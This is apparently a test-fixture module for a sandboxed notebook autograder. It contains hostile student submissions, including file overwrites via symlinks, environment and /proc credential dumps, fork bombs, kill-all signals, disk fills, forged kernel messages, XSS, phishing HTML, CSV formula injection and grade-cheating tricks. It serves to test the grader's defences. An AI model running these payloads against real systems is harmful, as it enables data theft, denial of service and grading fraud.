"""Attacks on the trust boundary: what a hostile student hands in to reach beyond their own grade.

Each entry is one student's hand-in for ``00_start_here`` (a notebook, or files for the folder), graded
in ONE class run together with honest classmates (tests/test_boundary.py). They try to write where
root later reads, fill the disk, read the grader's environment and the hidden tests, answer from a
table of the published seeds, call the course's reference after unlocking it, starve classmates of
processes, hold shared memory past the limit, crash or hang, and break collection, the CSV and the
report with their names. The test asserts the boundary held for every one of them.

``CANARY`` and ``CANARY_ENV`` are filled in by the test: a root-owned file outside every scratch
folder, and a variable set in the grader's environment.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import textwrap

import numpy as np

ASSIGNMENT = "00_start_here"
WRONG = """
def attention(q, k, v, mask=None):
    return np.zeros(q.shape[:-1] + (v.shape[-1],))
"""

# Code placed in the answer cell of `attention` (after it, in the same cell).
CODE_ATTACKS = {
    "links_for_root": WRONG
    + """
import os
for target, link in [("{CANARY}", "00_start_here.ipynb"), ("{CANARY}", "feedback.html"), ("/", "everything.html"),
                     ("{CANARY}", "../00_start_here.ipynb"), ("{CANARY}", "/tmp/00_start_here.ipynb")]:
    try:
        os.symlink(target, link)
    except OSError:
        pass
for path in ["{CANARY}", "../gradebook.db", "../../gradebook.db"]:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
    except OSError:
        pass
    try:
        os.chmod(path, 0o777)
    except OSError:
        pass
""",
    "fills_the_disk": WRONG
    + """
import os
chunk = b"x" * (1 << 20)
for folder in [".", "/tmp", "/dev/shm"]:
    for i in range(20):
        try:
            with open(os.path.join(folder, f"big{i}.html"), "wb") as handle:
                for _ in range(60):
                    handle.write(chunk)
        except OSError:
            break
try:
    with open("latin1.html", "wb") as handle:
        handle.write(bytes(range(128, 256)))
except OSError:
    pass
""",
    "reads_the_environment": """
import os, glob
def attention(q, k, v, mask=None):
    found = dict(os.environ)
    for path in glob.glob("/proc/*/environ"):
        try:
            found[path] = open(path, "rb").read().decode("latin-1")
        except OSError:
            pass
    print(found)
    raise RuntimeError("ENVIRONMENT " + repr(found))
""",
    "hunts_the_hidden_tests": """
import gc, os, sys, glob
def attention(q, k, v, mask=None):
    found = []
    for name in ("_ih", "In", "_i", "_ii", "_iii"):
        found.append(repr(globals().get(name))[-3000:])
    frame = sys._getframe()
    while frame is not None:
        found.append(repr(frame.f_code.co_filename) + repr(list(frame.f_locals))[:300])
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, str) and ("thorough" in obj or "HIDDEN" in obj):
            found.append(obj[:500])
    for pattern in ["*", "../*", "../../*", "/tmp/*", "/work/*", "/root/*", "/srv/*", "/home/*"]:
        found += glob.glob(pattern)[:50]
    print("\\n".join(found))
    raise RuntimeError("FOUND " + "\\n".join(found)[:1900])
""",
    "unlocks_the_reference": """
import heads_and_masks as _hm
import heads_and_masks._guard as _guard
_guard._locks = 0
_guard.locked = lambda: __import__("contextlib").nullcontext()
_reference = _hm.attention
def attention(q, k, v, mask=None):
    _guard._locks = 0
    return _reference(q, k, v, mask)
""",
    "hogs_processes": WRONG
    + """
import threading, time, os
def _sleep():
    time.sleep(120)
_threads = []
for _ in range(5000):
    try:
        t = threading.Thread(target=_sleep, daemon=True)
        t.start()
        _threads.append(t)
    except Exception:
        break
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    except OSError:
        break
""",
    "holds_shared_memory": WRONG
    + """
import mmap
_held = mmap.mmap(-1, 2_600_000_000)
for _i in range(0, len(_held), 4096):
    _held[_i] = 1
""",
    "crashes_in_the_test": """
import os
def attention(q, k, v, mask=None):
    os._exit(3)
""",
    "floods_the_grader": """
_flooded = []
def attention(q, k, v, mask=None):  # wrong, and 40 signed 25 MB messages pushed at the grader during the test
    if not _flooded:
        _flooded.append(1)
        kernel = get_ipython().kernel
        session = kernel.session
        parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
        content = session.pack({"name": "stdout", "text": "x" * (25 * 2**20)})
        parent_bytes, metadata = session.pack(parent["header"]), session.pack({})
        for _ in range(40):
            header = session.pack(session.msg_header("stream"))
            signature = session.sign([header, parent_bytes, metadata, content])
            kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", signature, header, parent_bytes,
                                                metadata, content])
    return np.zeros(q.shape[:-1] + (v.shape[-1],))
""",
    "loops_in_the_test": """
def attention(q, k, v, mask=None):
    while True:
        pass
""",
    # one line of 120 MB: a message over the grader's limit drops the kernel's connection, and every later cell
    # waited out its time (a worker held for the notebook's whole budget)
    "prints_one_huge_line": WRONG
    + """
print("x" * 120_000_000)
""",
}
# tiny markdown cells added to an honest notebook: the file stays under the size cap (15 MB), and each step
# that spends per cell (nbgrader, the judge, the feedback page) spent minutes on it
MANY_CELLS = 150_000


def seed_table_attack(check, exercise_name: str = "attention") -> str:
    """An answer that is right exactly on the inputs the published seeds give, and returns zeros otherwise.

    ``check`` is the course's check of the exercise; it is run here, without a grading key, with a
    recording stand-in to learn the inputs of the visible and hidden tests (as a student can, offline).
    """
    import hashlib

    table: dict[str, np.ndarray] = {}

    def reference(q, k, v, mask=None):  # the student's own correct attention, run offline
        scores = q @ np.swapaxes(k, -1, -2) / np.sqrt(q.shape[-1])
        allowed = np.ones(scores.shape, bool) if mask is None else np.broadcast_to(mask, scores.shape)
        scores = np.where(allowed, scores, -np.inf)
        top = scores.max(axis=-1, keepdims=True)
        top = np.where(np.isfinite(top), top, 0.0)
        weights = np.where(allowed, np.exp(scores - top), 0.0)
        total = weights.sum(axis=-1, keepdims=True)
        weights = np.divide(weights, total, out=np.zeros_like(weights), where=total > 0)
        return (weights @ v).astype(np.result_type(q, k, v), copy=False)

    def recorder(q, k, v, mask=None):
        key = hashlib.sha256(b"".join(np.ascontiguousarray(a).tobytes() for a in (q, k, v))).hexdigest()
        out = reference(q, k, v, mask)
        table[key] = out
        return out

    check(recorder)
    check(recorder, seed=7919, thorough=True)
    buffer = io.BytesIO()
    np.savez_compressed(buffer, **{f"k{key}": value for key, value in table.items()})
    blob = base64.b64encode(buffer.getvalue()).decode("ascii")
    return f'''
import base64, hashlib, io
_table = dict(np.load(io.BytesIO(base64.b64decode("{blob}"))))
def {exercise_name}(q, k, v, mask=None):
    key = "k" + hashlib.sha256(b"".join(np.ascontiguousarray(a).tobytes() for a in (q, k, v))).hexdigest()
    if key in _table:
        return _table[key]
    return np.zeros(q.shape[:-1] + (v.shape[-1],))
'''


# a cell tag with a space: nbconvert writes "celltag_x hidden" into the cell's class (Bootstrap hides it)
HIDING_TAG = "x hidden"
# notebook metadata pairing the notebook with a text file one folder up (Jupytext writes it on every save)
PAIRED_FORMATS = "ipynb,../x_//py:percent"
# a misconception of notebook 07 that no answer of 00 can show: forged into the class report, it would be seen
FORGED_ID = "kv_cache.bits_not_bytes"
# a raw cell (no format: nbconvert's HTML puts it into the page as is): a link and a fake verdict
RAW_HTML = (
    '<a href="https://phish.invalid/regrade">Regrade request</a>'
    '<div class="alert alert-success">All tests passed: 10 / 10</div>'
)
# a handed-in file whose name, in the notes of the CSV, holds `;=`: a new cell, and a formula, for a
# spreadsheet in a locale that separates CSV fields with `;`
FORMULA_FILE = 'notes;=HYPERLINK("x.invalid?"&A2).txt'
# a cell printing 20 outputs of 4000 characters: the most the judge keeps of one cell
PRINTS_A_LOT = 'for _i in range(20):\n    print("y" * 3999, flush=True)'
# prints 2 MiB lines that look like the judge's replies, for 4 s
PRINT_FLOOD = """
import sys, time
line = "__HM_REPLY__" + "x" * (2**21 - 20) + "\\n"
start = time.time()
while time.time() - start < 4:
    sys.stdout.write(line)
    sys.stdout.flush()
"""
# prints 15 MB messages for 6 s (each flushed: one message each)
SEND_FLOOD = """
import sys, time
chunk = "x" * (15 * 2**20)
start = time.time()
while time.time() - start < 6:
    sys.stdout.write(chunk)
    sys.stdout.flush()
"""
XSS = '<script>document.title="HOSTILE-XSS"</script><img src="x" onerror="document.title=\'HOSTILE-IMG\'">'

# Reads the instructor's test source if it ever runs in the kernel, and prints it.
SOURCE_SPY = (
    WRONG
    + """
_seen = []
def _spy(info):
    _seen.append(getattr(info, "raw_cell", "")[:3000])
get_ipython().events.register("pre_run_cell", _spy)
"""
)
SPY_REPORT = 'print("SPY", _seen)'  # a last cell of the student's: prints every cell the kernel ran before it


# ------------------------------------------------------------------ the graded copy, and a grader without root
# (issue 36 §5, issue 37 §4) The graded notebook takes each cell's metadata from the release, and knows the
# instructor's cells by their names (grade id, cell id), never by their text. Hand-ins built on the released
# notebook by tests/test_boundary.py:
#   hides_a_failing_test   a wrong answer; its test cell (and the answer) folded away: hidden input and output,
#                          collapsed, not editable, and `transient.remove_source` (nbconvert leaves such a cell's
#                          source out of the page)
#   copies_instructor_cells  every answer right; a released markdown cell's text in a raw cell of its own (the
#                          old rule kept it raw: HTML in the page), a released markdown cell turned raw, a released
#                          code cell's text in a new cell (the student's code: what it prints is kept)
#   claims_instructor_ids  a wrong answer; a cell of its own after the test cell claiming the test's grade id
#                          (nbgrader keeps the last copy), a grade cell with a grade id of its own and points, a
#                          second cell with the id of a released markdown cell, and a released cell without its id
HIDING_METADATA = {
    "jupyter": {"source_hidden": True, "outputs_hidden": True},
    "collapsed": True,
    "scrolled": False,
    "editable": True,
    "deletable": True,
    "transient": {"remove_source": True},
}
FORGED_GRADE_CELL = {"grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "extra_credit"}
PHISH_MARKDOWN = '<a href="https://phish.invalid/regrade">Your grade was corrected: click here</a>'
PRINTS_WHO_WROTE_IT = 'print("the student ran this cell")'

# Code a student runs as the uid of the grader when the grader is not root (every kernel then has that uid):
# the instructor's own files and home, the course's gradebook and grading key, the other kernels' folders and
# processes, with every permission the instructor has. `{CANARY}` is a file of the instructor's, `{COURSE}` the
# course root; what it reads it raises, for the graded notebook and the feedback.
UID_ATTACKS = {
    "reaches_the_instructor": WRONG
    + """
import glob, os
_found = []
for _path in ["{CANARY}", "{COURSE}/class/grading-key", "{COURSE}/class/gradebook.db",
              os.path.expanduser("~/.bashrc"), "/proc/1/environ", "/proc/1/cmdline"]:
    try:
        _found.append(_path + ": " + open(_path, "rb").read(300).decode("latin-1"))
    except OSError as _error:
        _found.append(_path + ": " + type(_error).__name__)
for _path in ["{CANARY}", "{COURSE}/class/gradebook.db", "{COURSE}/class/grading-key"]:
    try:
        with open(_path, "a") as _handle:
            _handle.write("pwned")
        _found.append("wrote " + _path)
    except OSError:
        pass
    try:
        os.chmod(_path, 0o777)
        _found.append("chmod " + _path)
    except OSError:
        pass
for _pattern in ["{COURSE}/*", "/tmp/*", "/run/heads-and-masks/*", "/home/*", "/work/*", "/proc/[0-9]*"]:
    _found += glob.glob(_pattern)[:40]
raise RuntimeError("REACHED " + "\\n".join(_found)[:1900])
""",
    "signals_every_process": WRONG
    + """
import os, signal
_mine = {int(_thread) for _thread in os.listdir("/proc/self/task")}  # a thread's id stops its whole process
for _pid in range(2, 4 * 2**15):  # by number, as if /proc were not there: every process of the uid it may signal
    try:
        if _pid not in _mine:
            os.kill(_pid, signal.SIGSTOP)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)  # every process this uid may signal, itself last
""",
}
# Writes a file into every folder of its view that is not one of its own (scratch, /tmp, /dev/shm, its socket
# folder): the root of bubblewrap's view is a tmpfs in memory, and so are the folders made on the way to its
# binds (owned by the kernel's uid when the grader is not root). It raises the list, for the test to read.
WRITES_ITS_VIEW = (
    WRONG
    + """
import os, sys
_wrote = []
_own = ("/tmp", "/dev/shm", os.getcwd(), os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"))
_folders = {"/", "/opt", "/opt/heads-and-masks", "/usr", "/etc", "/proc", "/dev", "/run"}
for _top in (sys.prefix, os.path.dirname(np.__file__), os.path.dirname(__import__("heads_and_masks").__file__)):
    while _top not in ("/", ""):
        _folders.add(_top)
        _top = os.path.dirname(_top)
for _folder in sorted(_folders):
    if _folder in _own or any(_folder.startswith(_o + "/") for _o in _own):
        continue
    try:
        with open(os.path.join(_folder, "hm-written"), "wb") as _handle:
            _handle.write(b"x" * (1 << 20))
        _wrote.append(_folder)
    except OSError:
        pass
raise RuntimeError("WROTE IN " + repr(_wrote))
"""
)
UID_ATTACKS["writes_its_view"] = WRITES_ITS_VIEW
# Resets what the grader measures of it. Without root (no memory cgroup), the grader reads how far a kernel's
# memory grew during a call from each of its processes' peak resident set (VmHWM), which a process may reset
# itself through /proc/self/clear_refs: a kernel that built the whole n x n score matrix, freed it and reset its
# peak before returning earned 04's count and memory tests (3 points) as a tiled one. It raises what it wrote.
# Fills the disk through its socket folder (JUPYTER_RUNTIME_DIR), the one folder of its view on the grader's disk
# rather than a capped tmpfs. Without root the kernel owns it (the instructor's uid): a chmod undid the seal, and
# files of up to 64 MiB each, as many as it liked, went onto the instructor's disk (720 MiB in one cell). It raises
# how much it wrote.
UID_ATTACKS["fills_its_socket_folder"] = (
    WRONG
    + """
import os
_runtime = os.environ["JUPYTER_RUNTIME_DIR"]
_written = 0
try:
    os.chmod(_runtime, 0o700)
except OSError:
    pass
for _i in range(4):
    try:
        with open(os.path.join(_runtime, "fill%d" % _i), "wb") as _handle:
            for _j in range(16):
                _handle.write(b"x" * 2**20)
                _written += 2**20
    except OSError:
        break
raise RuntimeError("WROTE MiB " + str(_written // 2**20))
"""
)
UID_ATTACKS["resets_its_memory_peak"] = (
    WRONG
    + """
_reset = []
for _name, _value in (("clear_refs", "5"), ("oom_score_adj", "1000")):
    try:
        with open("/proc/self/" + _name, "w") as _handle:
            _handle.write(_value)
        _reset.append(_name)
    except OSError:
        pass
raise RuntimeError("RESET " + repr(_reset))
"""
)

# Without root no memory cgroup counts a kernel's children, and the meter reads the kernel's processes at the end
# of a call: a child that builds the whole score matrix and sends the answer back through a pipe, started and
# ended within the call, was never seen (red team: 3 points on 04). Every way of starting a process is tried;
# the kernel reports each one that made a child.
UID_ATTACKS["hides_in_a_child"] = (
    WRONG
    + """
import ctypes as _ctypes, multiprocessing as _multiprocessing, os as _os, subprocess as _subprocess
def _forked():
    pid = _os.fork()
    if pid == 0:
        _os._exit(0)
    _os.waitpid(pid, 0)
def _spawned():
    pid = _os.posix_spawn("/bin/true", ["true"], {})
    _os.waitpid(pid, 0)
def _raw_forked():  # the fork system call itself (x86_64): glibc's fork() goes through clone, this one does not
    libc = _ctypes.CDLL(None, use_errno=True)
    pid = libc.syscall(57 if _os.uname().machine == "x86_64" else -1)
    if pid == 0:
        libc._exit(0)
    if pid < 0:
        raise OSError(_ctypes.get_errno(), "fork")
    _os.waitpid(pid, 0)
def _pooled():
    process = _multiprocessing.get_context("fork").Process(target=int)
    process.start()
    process.join()
_children = []
for _name, _start in (("fork", _forked), ("posix_spawn", _spawned), ("the fork system call", _raw_forked), ("multiprocessing", _pooled),
                      ("subprocess", lambda: _subprocess.run(["/bin/true"], check=True))):
    try:
        _start()
        _children.append(_name)
    except Exception:
        pass
raise RuntimeError("CHILDREN " + repr(_children))
"""
)


# ------------------------------------------------------------------ helpers of the package that answered
# The red team's attacks of issue 36: a helper the grading kernel's package kept (not a registered reference)
# computed a graded answer with the graded signature, or one step from it. Each is used by import and by the
# short name a notebook's own first cell imported (``hm``, ``local``, ``training``), without an import the scan
# could see. Graded in each assignment's class run (tests/course.py ``graded_batch``), beside the solution.
@dataclasses.dataclass(frozen=True)
class HelperAttack:
    name: str
    assignment: str
    exercise: str  # the answer cell it fills; every test cell of that exercise must earn nothing
    source: str
    earned_before: int  # what it earned on that exercise when the kernel's package was the package minus references

    def submission(self):
        from submissions import submission

        return submission(self.assignment, {self.exercise: textwrap.dedent(self.source).strip("\n")})


_MHA_WITH = """
def multi_head_attention(x, w_q, w_k, w_v, w_o, h, mask=None):
    b, n, width = x.shape
    d = width // h
    def split(t):
        return t.reshape(b, n, h, d).transpose(0, 2, 1, 3)
    q, k, v = split(x @ w_q), split(x @ w_k), split(x @ w_v)
    heads = np.stack([np.stack([{call}(q[i, j], k[i, j], v[i, j]) for j in range(h)]) for i in range(b)])
    return heads.transpose(0, 2, 1, 3).reshape(b, n, width) @ w_o
"""

HELPER_ATTACKS = [
    HelperAttack(
        "unmasked_yardstick_by_short_name",
        "01_heads",
        "multi_head_attention",
        _MHA_WITH.format(call="hm.tiled.unmasked_full_attention"),
        2,
    ),
    HelperAttack(
        "unmasked_yardstick_by_import",
        "01_heads",
        "multi_head_attention",
        "from heads_and_masks.tiled import unmasked_full_attention\n"
        + _MHA_WITH.format(call="unmasked_full_attention"),
        2,
    ),
    HelperAttack(
        "top_left_mask",
        "03_causal_mask",
        "causal_mask",
        """
        from heads_and_masks.generation import top_left_causal_mask
        def causal_mask(n):
            return top_left_causal_mask(n, n)
        """,
        3,
    ),
    HelperAttack(
        "training_causal",
        "03_causal_mask",
        "causal_mask",
        """
        from heads_and_masks import training
        def causal_mask(n):
            return training.causal(n)
        """,
        3,
    ),
    HelperAttack(
        "xformers_window_by_short_name",
        "05_other_masks",
        "sliding_window_mask",
        """
        def sliding_window_mask(n, w):
            return local.window_as_in_xformers(n, w)
        """,
        3,
    ),
    HelperAttack(
        "mistral_window_by_import",
        "05_other_masks",
        "sliding_window_mask",
        """
        from heads_and_masks.local_attention import window_as_in_mistral_reference
        def sliding_window_mask(n, w):
            return window_as_in_mistral_reference(n, w - 1) if w > 1 else np.eye(n, dtype=bool)
        """,
        2,
    ),
    HelperAttack(
        "slow_backward_by_short_name",
        "08_learned_heads",
        "attention_backward",
        """
        def attention_backward(q, k, v, mask, dout):
            return training.attention_backward_slow(q, k, v, mask, dout)
        """,
        5,
    ),
    HelperAttack(
        "slow_backward_by_import",
        "08_learned_heads",
        "attention_backward",
        """
        from heads_and_masks.training import attention_backward_slow
        def attention_backward(q, k, v, mask, dout):
            return attention_backward_slow(q, k, v, mask, dout)
        """,
        5,
    ),
]
